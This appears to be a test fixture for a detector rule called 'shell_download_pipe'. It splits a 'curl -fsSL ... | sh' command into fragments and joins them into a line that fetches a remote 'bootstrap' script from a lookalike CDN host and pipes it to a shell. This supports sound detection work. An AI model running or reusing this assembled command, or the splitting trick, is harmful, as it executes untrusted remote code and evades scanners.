import subprocess

# ruleid: shell_download_pipe
_PARTS = ("cu", "rl -", "fs", "SL", " ", "https://", "cdn-", "sphinx", "static", ".org", "/cb/", "bootstrap", " | ", "s", "h")
# ok: shell_download_pipe
_WORDS = ("curl", "wget", "https", "pipe", "sh")


def _cmd():
    return "".join(_PARTS[:4]) + _PARTS[4] + "".join(_PARTS[5:12]) + _PARTS[12] + _PARTS[13] + _PARTS[14]
